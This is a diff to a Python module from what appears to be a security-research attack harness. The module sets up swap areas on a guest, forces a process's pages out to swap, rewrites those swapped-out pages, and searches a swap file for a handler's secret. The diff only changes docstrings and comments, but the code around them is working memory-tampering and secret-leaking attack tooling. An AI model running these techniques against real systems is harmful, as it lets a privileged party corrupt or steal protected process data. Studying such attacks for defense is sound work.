@@ -1,5 +1,5 @@
 # SPDX-License-Identifier: GPL-2.0-only
-"""Where the kernel swaps to: a device that root rewrites from below, or a file that root reads."""
+"""Swap areas that root controls: a loop device whose file root rewrites, and a file root reads."""
 
 from __future__ import annotations
 
@@ -33,32 +33,34 @@ _FILE = f"{_FOLDER}/file"
 _LOOP_SET_FD = 0x4C00  # include/uapi/linux/loop.h
 _LOOP_CTL_GET_FREE = 0x4C82
 
-# union swap_header of include/linux/swap.h, from behind the boot block: version and last page
+# union swap_header of include/linux/swap.h, behind the boot block: version and last page
 _HEADER_AT, _HEADER = 1024, struct.Struct("<II")
 _MAGIC = b"SWAPSPACE2"
 
 _SLOT = 8
-"""The bytes of a slot's number, as find_page.c tells it."""
+"""Bytes of a slot number in the output of the payload find_page.c."""
 
 _STEPS = 32
-"""In how many all of the device could be written to, so as not to have all of memory go at once.
-When to give up: what can be pushed out has gone after 7. Not a time, which a busy host takes."""
+"""Reclaim steps in which the whole device could be filled, so that memory is not evicted at once.
+After as many steps the attack gives up: 7 were enough wherever a page could be evicted. The limit
+is a count because a busy host makes each step slow."""
 
 
 class StaysInMemory(Exception):
-    """A page that is not swapped out, however much memory is reclaimed."""
+    """The page was not swapped out, however much memory was reclaimed."""
 
 
 class SwapDevice:
-    """A loop device over a file in a ramfs, where the kernel swaps to.
+    """A swap area on a loop device over a file in a ramfs.
 
-    (A write to the device itself is ETXTBSY while it is in use; one to the file is not. In a
-    tmpfs the file would be swapped out to itself.) A page on the device is read again only once
-    memory holds no copy of it, in the swap cache: what is pushed out here is gone from there too.
+    Root writes to the file: a write to the device itself fails with ETXTBSY while it is a swap
+    area. The file is in a ramfs because a tmpfs file would itself be swapped out. The kernel
+    reads a page from the device only when the swap cache has no copy of it, so the methods here
+    evict a page from the swap cache as well.
     """
 
     def __init__(self, attacker: Attacker, *, pages: int) -> None:
-        """Make it and switch it on, as set-up."""
+        """Create the device with room for `pages` pages and enable it, as set-up."""
         self._attacker = attacker
         self._step = pages * PAGE // _STEPS
         with attacker.setup():
@@ -68,21 +70,21 @@ class SwapDevice:
             attacker.syscall("ftruncate", self._file.fd, pages * PAGE)
             _format(self._file, pages)
             attacker.syscall("swapon", self._loop_device(), 0)
-            attacker.write_file("/proc/sys/vm/swappiness", b"200")  # and files' pages stay
+            attacker.write_file("/proc/sys/vm/swappiness", b"200")  # reclaim no page cache
 
     def _loop_device(self) -> str:
         attacker = self._attacker
         with attacker.open("/dev/loop-control", O_RDWR) as control:
             device = f"/dev/loop{attacker.syscall('ioctl', control.fd, _LOOP_CTL_GET_FREE, 0)}"
-        # Bound to the file until the machine ends; the swap keeps it open from here on.
+        # The swap area keeps the device open, so it stays bound to the file.
         with attacker.open(device, O_RDWR) as loop:
             attacker.syscall("ioctl", loop.fd, _LOOP_SET_FD, self._file.fd)
             return device
 
     def push_out_page(self, pid: int, address: int, page_out: Callable[[], None]) -> int:
-        """Have `page_out` push a stopped process's page out, until it is on the device alone.
+        """Swap out one page of a stopped process, until only the device has it; return its slot.
 
-        Its slot. Raises StaysInMemory.
+        `page_out` evicts the page from the process. Raises StaysInMemory.
         """
         frame = page_frame(self._attacker, pid, address)
         drain_batches(self._attacker)
@@ -90,14 +92,19 @@ class SwapDevice:
 
         def slot() -> int | None:
             entry = page_entry(self._attacker, pid, address)
-            # The frame may still hold a copy of a page that was written out.
+            # After the page was written out, the frame may still hold a copy of it.
             is_out = entry & SWAPPED and not frame_flags(self._attacker, frame) & KPF_SWAPCACHE
             return entry >> SLOT_SHIFT & SLOT_MASK if is_out else None
 
         return self._reclaim_until(slot)
 
     def finder(self, place: int, wanted: bytes) -> Callable[[], int]:
-        """Start what finds the first page with that in that place: its slot, -1 for none."""
+        """Start the payload find_page; return a function that searches the device once per call.
+
+        The search is for the first page that has the bytes `wanted` at offset `place`. The
+        function returns the page's slot, -1 if there is none, and raises ChildProcessError if the
+        payload has ended.
+        """
         attacker = self._attacker
         path = attacker.payload("find_page")
         with attacker.setup():
@@ -111,16 +118,16 @@ class SwapDevice:
             ask.write(b"?")
             found = answer.read(_SLOT)
             if len(found) < _SLOT:
-                raise ChildProcessError("what looks for the page has ended")
+                raise ChildProcessError("the payload find_page has ended")
             return int.from_bytes(found, "little", signed=True)
 
         return find
 
     def push_out(self, find: Callable[[], int]) -> int:
-        """Have memory written out until what is found is on the device and nowhere else.
+        """Reclaim memory until only the device has the page that `find` finds; return its slot.
 
-        Where others of its kind are in use, that cannot be told: then for all steps there are.
-        Its slot. Raises StaysInMemory.
+        The swap cache is checked for pages of a tmpfs as a whole. If other tmpfs pages stay in
+        it, all reclaim steps are made. Raises StaysInMemory if the page is never found.
         """
 
         def out() -> int | None:
@@ -137,35 +144,36 @@ class SwapDevice:
             if (found := slot()) is not None:
                 return found
             reclaim(self._attacker, self._step)
-        raise StaysInMemory("the page was never swapped out, or stayed in memory as well")
+        raise StaysInMemory("the page was never swapped out, or memory kept a copy of it")
 
     def rewrite(self, slot: int, offset: int, data: bytes) -> None:
-        """Change a page that was pushed out."""
+        """Overwrite a swapped-out page with `data`, at `offset` bytes into the page."""
         self._file.pwrite(data, slot * PAGE + offset)
 
 
 class SwapFile:
-    """A file on the guest's disk, where the kernel swaps to. It cannot be written to, but read."""
+    """A swap area in a file on the guest's disk. While it is in use, root can only read it."""
 
     path = "/var/tmp/swap"  # noqa: S108 - the guest's, not ours
 
     def __init__(self, attacker: Attacker, *, pages: int) -> None:
-        """Make it and switch it on, as set-up."""
+        """Create the file with room for `pages` pages and enable it, as set-up."""
         self._attacker = attacker
         with attacker.setup():
             zeros = File(attacker, attacker.syscall("memfd_create", "zeros", 0))
             with zeros, attacker.open(self.path, O_RDWR | O_CREAT, 0o600) as file:
                 attacker.syscall("ftruncate", zeros.fd, pages * PAGE)
-                # Written, or the file system shows zeros there whatever the kernel swaps out.
+                # The file system returns zeros for blocks never written, whatever is on the disk.
                 attacker.syscall("sendfile", file.fd, zeros.fd, 0, pages * PAGE)
                 _format(file, pages)
             attacker.syscall("swapon", self.path, 0)
 
     def secret(self, *places: int) -> bytes:
-        """Lock memory for a while, and look for a handler's state in the file: its secret.
+        """Return the handler's secret if the payload read_swap finds it in the swap file.
 
-        If there is none, b"-" where memory ran short, else nothing. The places are where in its
-        page it has its request, its reply, its state and its secret.
+        The payload locks memory until other processes are swapped out, and searches the file for
+        a page like the handler's. `places` are the offsets in that page of request, reply, state
+        and secret. Without a match the result is b"-" if memory ran short, else b"".
         """
         attacker = self._attacker
         payload, words = attacker.payload("read_swap"), (self.path, *map(str, places))
@@ -177,9 +185,10 @@ class SwapFile:
 
 
 def swappable(attacker: Attacker) -> int:
-    """How many pages the kernel could swap out, at least 2048: others run as well.
+    """Return how many pages the kernel could swap out now, at least 2048.
 
-    No more than that: the kernel keeps pages in the swap cache until half of the swap is used.
+    A swap area should have this size: processes started later need some room, and in a larger
+    area the kernel keeps pages in the swap cache until half of the area is used.
     """
     with attacker.setup():
         info = attacker.read_file("/proc/meminfo").decode()
@@ -188,7 +197,7 @@ def swappable(attacker: Attacker) -> int:
 
 
 def reclaim(attacker: Attacker, size: int) -> None:
-    """Have the kernel reclaim so many bytes of memory; less will do."""
+    """Ask the kernel to reclaim `size` bytes of memory. To reclaim fewer is no error."""
     drain_batches(attacker)
     try:
         attacker.write_file("/sys/fs/cgroup/memory.reclaim", b"%d" % size)
@@ -198,19 +207,19 @@ def reclaim(attacker: Attacker, size: int) -> None:
 
 
 def drain_batches(attacker: Attacker) -> None:
-    """Have pages leave the CPUs' batches for the LRU lists: reclaim sees no others."""
+    """Move pages from the per-CPU batches to the LRU lists, the only pages that reclaim sees."""
     attacker.write_file("/proc/sys/vm/drop_caches", b"1")
 
 
 def _format(file: File, pages: int) -> None:
-    """Make it swap space, as mkswap does."""
+    """Write a swap header, as mkswap(8) does."""
     file.pwrite(_HEADER.pack(1, pages - 1), _HEADER_AT)
     file.pwrite(_MAGIC, PAGE - len(_MAGIC))
 
 
 def _cached(attacker: Attacker) -> bool:
-    """Whether a page of a tmpfs, as a blob's are, was written out and is in memory as well.
+    """Return whether the swap cache has a tmpfs page, such as a page of the handler's blob.
 
-    A count of the swap cache would not do: pages of processes stay in it as long as they like.
+    The size of the swap cache is no measure: pages of processes stay in it indefinitely.
     """
     return any_frame(attacker, KPF_SWAPCACHE, of=KPF_SWAPCACHE | KPF_ANON)
